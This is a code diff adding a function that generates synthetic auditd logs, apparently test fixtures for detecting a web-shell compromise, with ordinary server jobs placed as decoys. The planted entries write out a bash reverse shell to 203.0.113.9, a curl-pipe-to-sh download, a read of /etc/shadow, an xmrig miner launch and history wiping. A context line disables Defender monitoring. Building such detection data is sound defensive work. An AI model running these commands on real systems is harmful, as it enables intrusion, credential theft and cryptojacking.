@@ -102,3 +102,36 @@ export function scriptBlocks(): string[] {
     ev(3 * 3600, 'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Users\\Public'),
   ];
 }
+
+/** web3's auditd log (execve rules): a web shell's reverse shell and what followed, beside the server's own jobs. */
+export function auditLog(): string[] {
+  const rows: string[] = [];
+  let serial = 5000;
+  const t0 = Date.UTC(2026, 2, 10, 12) / 1000;
+  const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex').toUpperCase();
+  /** one program run: its SYSCALL, EXECVE, CWD and PROCTITLE records; arguments with spaces are hex, as auditd writes them */
+  const run = (sec: number, uid: number, args: string[]): void => {
+    const stamp = `${(t0 + sec).toFixed(3)}:${serial++}`;
+    const comm = args[0]!.split('/').pop()!;
+    rows.push(`type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c a1=55d2c a2=55d3c a3=0 items=2 ppid=2211 pid=${2300 + serial} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4294967295 comm="${comm}" exe="/usr/bin/${comm}" key="exec"`);
+    rows.push(`type=EXECVE msg=audit(${stamp}): argc=${args.length} ${args.map((a, i) => `a${i}=${/[\s"']/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`);
+    rows.push(`type=CWD msg=audit(${stamp}): cwd="/var/www/html"`);
+    rows.push(`type=PROCTITLE msg=audit(${stamp}): proctitle=${hex(args.join('\u0000'))}`);
+  };
+  // trap: the server's own day: logrotate, a health check with curl, the monitoring agent's ps and ss, an admin's ip a and id
+  run(0, 0, ['/usr/sbin/logrotate', '/etc/logrotate.conf']);
+  run(60, 0, ['curl', '-fsS', 'https://api.example.com/health']);
+  run(120, 112, ['ps', 'aux']);
+  run(125, 112, ['ss', '-tlpn']);
+  run(300, 1000, ['ip', 'a']);
+  run(310, 1000, ['id']);
+  run(400, 0, ['find', '/var/www', '-name', '*.php', '-mtime', '-1']);
+  // planted: the web shell (www-data, uid 33) opens a reverse shell, looks around, fetches a miner, reads shadow, wipes history
+  run(3600, 33, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']);
+  for (const [i, a] of [['id'], ['uname', '-a'], ['cat', '/etc/passwd'], ['sudo', '-l'], ['ps', 'aux'], ['netstat', '-tlpn'], ['cat', '/etc/os-release']].entries()) run(3620 + i * 20, 33, a);
+  run(3800, 33, ['sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh']);
+  run(3860, 0, ['cat', '/etc/shadow']);
+  run(3900, 0, ['/tmp/.x/xmrig', '-o', 'stratum+tcp://pool.example.net:3333', '-u', '4Abc']);
+  run(3990, 0, ['bash', '-c', 'history -c; unset HISTFILE']);
+  return rows;
+}
